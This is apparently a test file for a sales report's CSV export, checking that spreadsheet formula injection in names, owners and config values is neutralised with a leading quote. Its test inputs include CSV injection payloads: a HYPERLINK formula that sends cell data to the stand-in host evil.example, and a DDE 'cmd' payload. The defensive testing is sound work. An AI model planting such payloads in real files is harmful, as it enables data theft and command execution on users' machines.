// "Hostile content never becomes code or markup" (SPEC.md, Writes you can trust): names, owners and
// config values from a hostile file, through the report's CSV.
import * as assert from 'node:assert/strict';
import { csvField } from '../../src/core/output/csv';
import { buildReport } from '../../src/core/insight/report';
import { reportToCsv } from '../../src/core/output/reportFormats';
import { accounts, benign, FORMULA, hostile, hostileLine, Q4, random, readCsv, team, TODAY } from './hostileText';

describe('hostile content in CSV', () => {
  const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1'];

  it('prefixes a text cell that a spreadsheet would read as a formula with a quote, and keeps numbers numbers', () => {
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+cmd|\' /C calc\'!A0'), "'+cmd|' /C calc'!A0");
    assert.equal(csvField('@SUM(1+1)'), "'@SUM(1+1)");
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    assert.equal(csvField('\t=1+1'), "'\t=1+1");
    assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvField(' =1+1'), "' =1+1");
    assert.equal(csvField('＝1+1'), "'＝1+1");
    assert.equal(csvField(-5), '-5');
    assert.equal(csvField(-2.5), '-2.5');
    assert.equal(csvField('Acme - East'), 'Acme - East');
    assert.equal(csvField('2026-12-01'), '2026-12-01');
  });

  it("writes the report's names, owners, currencies and roster as text cells, every row with its ten columns", () => {
    const config = team('=1+1', '@criterion', '-region');
    const report = buildReport(accounts(names.map((name) => ({ name, owner: '=1+1', currency: '+USD', region: '-r', title: '=title' })), config), config, Q4, TODAY);
    const rows = readCsv(reportToCsv(report));
    for (const row of rows) assert.equal(row.length, 10);
    for (const row of rows) for (const cell of row) assert.ok(!FORMULA.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `a live formula: ${JSON.stringify(cell)}`);
    const deals = rows.filter((r) => r[0] === 'deal');
    assert.deepEqual(deals.map((r) => r[1]).sort(), names.map((n) => `'${n}`).sort());
    assert.ok(deals.every((r) => r[9] === "'=1+1" && r[5] === "'+USD"));
    assert.ok(rows.some((r) => r[0] === 'quota' && r[9] === "'=1+1"));
  });

  it('property: every cell reads back as what was written, a quote before a formula, the rows and columns as built', () => {
    for (let seed = 1; seed <= 60; seed++) {
      const rnd = random(seed);
      const values = Array.from({ length: 1 + Math.floor(rnd() * 4) }, () => ({ name: hostile(rnd), owner: hostile(rnd), currency: hostileLine(rnd), region: hostile(rnd), title: hostileLine(rnd) }));
      const config = team(hostile(rnd), hostile(rnd), hostile(rnd));
      const rows = readCsv(reportToCsv(buildReport(accounts(values, config), config, Q4, TODAY)));
      const plain = readCsv(reportToCsv(buildReport(accounts(benign(values), config), config, Q4, TODAY)));
      assert.equal(rows.length, plain.length, `seed ${seed}: rows`);
      for (const row of rows) assert.equal(row.length, 10, `seed ${seed}: columns`);
      for (const row of rows) for (const cell of row) assert.ok(!FORMULA.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `seed ${seed}: a live formula ${JSON.stringify(cell)}`);
      const written = new Set(rows.filter((r) => r[0] === 'deal').map((r) => r[1]));
      for (const { name } of values) assert.ok(written.has(FORMULA.test(name) ? `'${name}` : name), `seed ${seed}: ${JSON.stringify(name)} kept`);
    }
  });
});

